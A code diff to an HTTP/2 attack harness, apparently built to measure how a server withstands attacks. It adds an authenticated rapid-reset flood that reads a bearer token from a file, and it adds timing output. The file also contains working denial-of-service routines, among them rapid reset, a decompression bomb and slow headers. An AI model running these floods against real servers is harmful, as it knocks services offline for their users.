@@ -1,4 +1,5 @@
-"""One attack, from one address, for some seconds: attack.py NAME PORT SOURCE SECONDS [tls]. Prints what it did.
+"""One attack, from one address, for some seconds: attack.py NAME PORT SOURCE SECONDS [tls]. Prints when it began and
+ended (CLOCK_MONOTONIC), and what it did. EQUITY_TOKEN_FILE is the credential of the attack that has one.
 
 Each attack is a function of a target and an end, which several threads run; it returns how much it did. Where it is
 thrown out it comes again.
@@ -66,8 +67,17 @@ def streams(count, one):
 
 
 def rapid_reset(target, until):
+    return reset_all(target, until, BLOCK)
+
+
+def rapid_reset_by_partner(target, until):
+    with open(os.environ["EQUITY_TOKEN_FILE"], encoding="ascii") as file:
+        return reset_all(target, until, header_block(("authorization", "Bearer " + file.read().strip())))
+
+
+def reset_all(target, until, block):
     def one(stream):
-        return (frame(HEADERS, END_HEADERS, stream, BLOCK) + frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)
+        return (frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)
                 + frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
     return once_each(target, until, streams(20000, one), 20000)
 
@@ -183,6 +193,7 @@ def slow_headers(target, until):
 # Name: function, threads, what its figure counts.
 ATTACKS = {
     "rapid reset": (rapid_reset, 8, "requests"),
+    "rapid reset by a partner": (rapid_reset_by_partner, 8, "requests"),
     "settings never acknowledged": (never_acknowledged, 4, "streams"),
     "endless headers": (endless_headers, 4, "frames of 16 KiB"),
     "decompression bomb": (decompression_bomb, 2, "of 900 MiB"),
@@ -205,14 +216,15 @@ def main():
     os.nice(19)  # what it costs the attacker to attack is not what is measured
     target = Target(int(port), sys.argv[5:] == ["tls"], source)
     attack, threads, unit = ATTACKS[name]
-    until = time.monotonic() + float(seconds)
+    begin = time.monotonic()
+    until = begin + float(seconds)
     done = []
     crew = [threading.Thread(target=lambda: done.append(attack(target, until))) for _ in range(threads)]
     for thread in crew:
         thread.start()
     for thread in crew:
         thread.join()
-    print(f"{int(sum(done)):,} {unit}")
+    print(f"{begin:.4f} {time.monotonic():.4f} {int(sum(done)):,} {unit}")
 
 
 if __name__ == "__main__":
